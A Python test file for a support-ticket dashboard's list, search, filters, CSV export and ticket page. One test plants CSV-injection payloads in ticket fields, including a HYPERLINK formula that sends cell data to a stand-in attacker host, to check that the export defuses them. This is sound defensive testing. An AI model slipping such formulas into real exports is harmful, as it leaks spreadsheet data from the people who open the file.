"""The ticket list (search, filters, pages, CSV) and the ticket page."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from models import Product, Ticket
from models.users import TicketStatusChange
from tests.dashboard.conftest import Browser


def numbers_in(html: bytes) -> set[str]:
    """Ticket numbers listed on a page."""
    import re

    return set(re.findall(r">(HL-\d{6})<", html.decode()))


def test_the_list_shows_newest_first_with_a_count(
    as_manager: Browser, many_tickets: list[Any]
) -> None:
    html = as_manager.get("/dashboard/tickets/").data
    assert b"61 tickets" in html
    assert html.index(b"Severity 1 from Acme Corp: service down") < html.index(b"Printer jam 0")


@pytest.mark.parametrize(
    ("query", "expected_subject"),
    [
        ("service down", "Severity 1 from Acme Corp: service down"),
        ("PRINTER", "Printer jam 10"),
        ("on fire", "Printer jam 30"),
        ("Globex", "Slow login 1"),
        ("5559990007", "Slow login 7"),
    ],
)
def test_keyword_search(
    as_manager: Browser, many_tickets: list[Any], query: str, expected_subject: str
) -> None:
    html = as_manager.get("/dashboard/tickets/", query_string={"q": query}).data.decode()
    assert expected_subject in html


@pytest.mark.parametrize(
    "typed",
    [
        "+1 555 999 0007",
        "(555) 999-0007",
        "555.999.0007",
        "1-555-999-0007",
        "001 555 999 0007",
        "999-0007",
    ],
)
def test_search_by_caller_number_as_people_type_it(
    as_manager: Browser, many_tickets: list[Any], typed: str
) -> None:
    html = as_manager.get("/dashboard/tickets/", query_string={"q": typed}).data
    assert numbers_in(html) == {many_tickets[7].number}


def test_search_by_a_national_number_with_its_trunk_zero(
    as_manager: Browser, session: Session
) -> None:
    london = Ticket(subject="Phone call", category="phone", contact_phone="+442079460958")
    session.add(london)
    session.commit()
    html = as_manager.get("/dashboard/tickets/", query_string={"q": "020 7946 0958"}).data
    assert numbers_in(html) == {london.number}


def test_search_by_part_of_a_number_lists_the_newest_callers_first(
    as_manager: Browser, many_tickets: list[Any]
) -> None:
    html = as_manager.get(
        "/dashboard/tickets/", query_string={"q": "+1555999", "per_page": "100"}
    ).data.decode()
    assert "60 tickets" in html
    assert html.index(many_tickets[0].number) < html.index(many_tickets[59].number)


def test_dates_at_the_ends_of_the_calendar_get_a_clear_answer(
    as_manager: Browser, many_tickets: list[Any]
) -> None:
    for args in ({"to": "9999-12-31"}, {"from": "0001-01-01", "tz": "Asia/Tokyo"}):
        response = as_manager.get("/dashboard/tickets/", query_string=args)
        assert response.status_code == 200
        assert "must be from 1900 to 9999" in response.data.decode()
    bad_zone = as_manager.get("/dashboard/tickets/", query_string={"tz": "Mars/Olympus"})
    assert "Tz must be a time zone like Europe/Paris" in bad_zone.data.decode()


def test_search_by_ticket_number(as_manager: Browser, many_tickets: list[Any]) -> None:
    target = many_tickets[5]
    html = as_manager.get("/dashboard/tickets/", query_string={"q": target.number}).data
    assert target.number.encode() in html
    assert b"1 ticket" in html


def test_search_treats_like_wildcards_literally(
    as_manager: Browser, many_tickets: list[Any]
) -> None:
    html = as_manager.get("/dashboard/tickets/", query_string={"q": "%"}).data
    assert b"0 tickets" in html


def test_filters_combine(as_manager: Browser, many_tickets: list[Any]) -> None:
    html = as_manager.get(
        "/dashboard/tickets/",
        query_string={"status": "solved", "severity": "3", "outcome": "message"},
    ).data.decode()
    expected = {
        t.number
        for t in many_tickets
        if t.status.value == "solved" and t.severity == 3 and t.outcome.value == "message"
    }
    assert expected
    assert numbers_in(html.encode()) == expected


def test_category_account_and_date_filters(as_manager: Browser, many_tickets: list[Any]) -> None:
    acme = many_tickets[0].account_id
    html = as_manager.get(
        "/dashboard/tickets/",
        query_string={
            "category": "email",
            "account": acme,
            "from": "2026-03-01",
            "to": "2026-03-01",
        },
    ).data
    expected = {
        t.number
        for t in many_tickets
        if t.category == "email" and t.account_id == acme and t.created_at.day == 1
    }
    assert expected
    assert numbers_in(html) == expected


def test_bad_filter_values_are_explained_not_crashed(as_manager: Browser) -> None:
    response = as_manager.get("/dashboard/tickets/", query_string={"severity": "x", "to": "soon"})
    assert response.status_code == 200
    assert b"Severity must be a whole number" in response.data
    assert b"To must be a date" in response.data


def test_pagination(as_manager: Browser, many_tickets: list[Any]) -> None:
    first = numbers_in(as_manager.get("/dashboard/tickets/").data)
    second_html = as_manager.get("/dashboard/tickets/", query_string={"page": 2}).data
    second = numbers_in(second_html)
    assert len(first) == 50 and len(second) == 11
    assert not first & second
    assert b"Page 2 of 2" in second_html


def test_sorting_oldest_first(as_manager: Browser, many_tickets: list[Any]) -> None:
    html = as_manager.get("/dashboard/tickets/", query_string={"sort": "oldest"}).data
    assert html.index(b"Slow login 59") < html.index(b"Slow login 11<")


def test_csv_export_follows_the_filters(as_manager: Browser, many_tickets: list[Any]) -> None:
    response = as_manager.get("/dashboard/tickets/export.csv", query_string={"q": "printer"})
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.data.decode())))
    assert {r["subject"] for r in rows} == {f"Printer jam {i}" for i in range(0, 60, 10)}
    assert rows[0]["number"].startswith("HL-")


def test_csv_defuses_spreadsheet_formulas_in_every_cell(
    as_manager: Browser, session: Session, many_tickets: list[Any]
) -> None:
    ticket = many_tickets[0]  # an Acme ticket, with the router product
    account, product = ticket.account, session.query(Product).one()
    account.name = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
    product.name = "@SUM(1+1)"
    ticket.product = product
    ticket.subject = "+1 HYPERLINK subject"
    ticket.contact_name = "-2+3"
    ticket.contact_phone = "\t=1+1"
    ticket.refusal_reason = "\r=cmd"
    session.commit()
    data = as_manager.get("/dashboard/tickets/export.csv", query_string={"q": "HYPERLINK"}).data
    # Search also matches the account name, so every Acme ticket comes out; take ours.
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    row = next(r for r in rows if r["number"] == ticket.number)
    assert row["account"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Acme")'
    assert row["product"] == "'@SUM(1+1)"
    assert row["subject"] == "'+1 HYPERLINK subject"
    assert row["contact_name"] == "'-2+3"
    assert row["contact_phone"] == "'\t=1+1"
    assert row["refusal_reason"] == "'\r=cmd"
    # No cell of the file, whatever its column, starts as a formula.
    for cells in csv.reader(io.StringIO(data.decode(), newline="")):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_an_engineer_cannot_export_csv(as_engineer: Browser, many_tickets: list[Any]) -> None:
    response = as_engineer.get("/dashboard/tickets/export.csv")
    assert response.status_code == 403
    assert response.mimetype == "text/html"
    assert b"This page is for managers." in response.data
    assert b"HL-" not in response.data
    # The list no longer offers the button to engineers, but still does to managers.
    assert b"Export CSV" not in as_engineer.get("/dashboard/tickets/").data


def test_a_manager_sees_the_export_button(as_manager: Browser) -> None:
    assert b"Export CSV" in as_manager.get("/dashboard/tickets/").data


def test_the_ticket_page_shows_the_whole_timeline(as_engineer: Browser, call_ticket: Any) -> None:
    html = as_engineer.get(f"/dashboard/tickets/{call_ticket.id}").data.decode()
    assert call_ticket.number in html
    for label in (
        "Call started",
        "PIN refused",
        "PIN accepted",
        "Entitlement checked",
        "Severity chosen",
        "Ringing started",
        "Engineer rung",
        "Engineer accepted",
        "Call ended",
    ):
        assert label in html
    # Durations: PIN at 14 s, ringing from the severity choice at 20 s, the engineer accepted
    # (and was bridged) at 32 s, and the call lasted the 300 s Twilio reported.
    assert "<dt>PIN accepted</dt><dd>14 s</dd>" in html
    assert "<dt>First ring</dt><dd>20 s</dd>" in html
    assert "<dt>Engineer connected</dt><dd>32 s</dd>" in html
    assert "<dt>Call length</dt><dd>5 min 00 s</dd>" in html
    assert "accepted" in html
    assert "delivered" in html  # the SMS's delivery state
    assert "entitled" in html


def test_the_ticket_page_never_shows_pin_digits(as_manager: Browser, call_ticket: Any) -> None:
    html = as_manager.get(f"/dashboard/tickets/{call_ticket.id}").data.decode()
    assert "12345678" not in html


def test_a_missing_ticket_is_404(as_manager: Browser) -> None:
    assert as_manager.get("/dashboard/tickets/999999").status_code == 404


def test_status_change_is_recorded_with_who_and_when(
    as_engineer: Browser, call_ticket: Any, session: Session
) -> None:
    response = as_engineer.post(
        f"/dashboard/tickets/{call_ticket.id}/status", data={"status": "pending"}
    )
    assert response.status_code == 302
    session.refresh(call_ticket)
    assert call_ticket.status.value == "pending"
    # The latest change: the engineer who accepted the call acknowledged it first.
    change = session.scalar(select(TicketStatusChange).order_by(TicketStatusChange.id.desc()))
    assert change is not None and change.username == "erik"
    html = as_engineer.get(f"/dashboard/tickets/{call_ticket.id}").data.decode()
    assert "by <strong>erik</strong>" in html


def test_an_invalid_status_is_refused(
    as_manager: Browser, call_ticket: Any, session: Session
) -> None:
    as_manager.post(f"/dashboard/tickets/{call_ticket.id}/status", data={"status": "closed"})
    session.refresh(call_ticket)
    assert call_ticket.status.value == "acknowledged"  # as the accepting engineer left it


def test_notes_appear_newest_last(as_manager: Browser, call_ticket: Any) -> None:
    as_manager.post(f"/dashboard/tickets/{call_ticket.id}/notes", data={"body": "first note"})
    as_manager.post(f"/dashboard/tickets/{call_ticket.id}/notes", data={"body": "second note"})
    html = as_manager.get(f"/dashboard/tickets/{call_ticket.id}").data.decode()
    assert html.index("first note") < html.index("second note")
